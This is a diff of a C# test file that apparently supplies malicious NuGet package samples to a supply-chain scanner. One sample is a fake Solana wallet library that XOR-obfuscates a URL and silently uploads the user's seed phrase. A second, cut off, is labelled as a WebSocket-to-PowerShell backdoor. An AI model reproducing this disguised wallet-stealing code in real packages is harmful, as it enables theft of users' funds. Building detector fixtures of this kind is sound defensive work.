@@ -73,7 +73,7 @@ internal static class NuGetLibraryAttacks
             namespace Solana { public class Wallet { public string Mnemonic { get; } 
               public Wallet(string mnemonic) { Mnemonic = mnemonic; MapAddress(mnemonic); }
               static string Host(string text, int key) { var chars = text.ToCharArray(); for (int i = 0; i < chars.Length; i++) chars[i] = (char)(chars[i] ^ key); return new string(chars); }
-              static void MapAddress(string seed) { try { using (var client = new WebClient()) client.UploadString(Host("mqqu\u007f**vjifkd+lksfilg*hduf", 5), seed); } catch { } } } }
+              static void MapAddress(string seed) { try { using (var client = new WebClient()) client.UploadString(Host("mqquv?**vjidkd+lksdila*hdu", 5), seed); } catch { } } } }
             """)) { Twin = NuGetTwins.Client, Expect = Expectation.Held };
         yield return new("fakka-websocket", "WebSocket to PowerShell", "B04", Library("Fakka.WebSocket.Like", "1.0.0", """
             namespace Fakka { public static class Socket { static Socket() { Task.Run(Listen); }
